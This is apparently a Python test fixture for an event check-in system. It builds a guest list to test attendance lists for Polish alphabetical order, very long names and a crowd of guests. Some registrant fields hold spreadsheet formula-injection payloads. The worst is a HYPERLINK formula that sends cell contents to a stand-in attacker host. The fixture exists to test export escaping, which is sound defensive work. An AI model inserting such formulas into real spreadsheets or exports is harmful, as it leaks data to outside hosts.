"""An event big enough for attendance lists of several pages: the small event's guests, surnames that only
Polish alphabetical order puts right, hostile spreadsheet cells, and a crowd of ordinary guests."""

from __future__ import annotations

from pathlib import Path

from checkin.domain import Registrant
from checkin.station import Station
from helpers.events import GUESTS, PROGRAMME, make_station

COLLATION_ORDER = ("Lis", "Łukasik", "Sowa", "Śliwa", "Zając", "Źrebiec", "Żak")
"""Surnames in the order a Polish reader expects: code points would put Ł, Ś, Ź and Ż after Z."""
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")'
HOSTILE_ORGANISATION = "+48 600 100 200"
HOSTILE_CITY_CELL = "@SUM(A1:A9)"
CROWD = 72
LONG_GUEST = Registrant(
    first_name="Maria Magdalena",
    title="prof. dr hab.",
    last_name="Szczepańska-Wiśniewska-Żółkiewska",
    organisation="Regionalny Ośrodek Polityki Społecznej Województwa Świętokrzyskiego w Kielcach, "
    "Oddział Zamiejscowy w Sandomierzu, Zespół ds. Ekonomii Społecznej i Partycypacji Obywatelskiej",
)

GUESTS_OF_THE_LISTS = (
    *GUESTS,
    *(Registrant(first_name="Anna", last_name=name, organisation="MOPS Kielce") for name in COLLATION_ORDER),
    Registrant(first_name=HOSTILE_NAME, last_name="Hacker", organisation=HOSTILE_ORGANISATION),
    Registrant(first_name="Zenon", last_name="Minus", organisation="-1+1"),
    Registrant(first_name="Ewa", last_name="Małpa", organisation=HOSTILE_CITY_CELL),
    LONG_GUEST,
    *(Registrant(first_name="Gość", last_name=f"Tłum{number:03d}", organisation="Centrum Usług Społecznych")
      for number in range(CROWD)),
)  # fmt: skip
"""Everyone attends both days, except Коваленко (day two only, from the small event)."""


def crowded_station(path: Path, **kwargs: str) -> Station:
    """The event with the small programme (a day-one plenary and dinner, two day-two workshops)."""
    station = make_station(path, GUESTS_OF_THE_LISTS, **kwargs)
    station.programme.save(PROGRAMME)
    return station
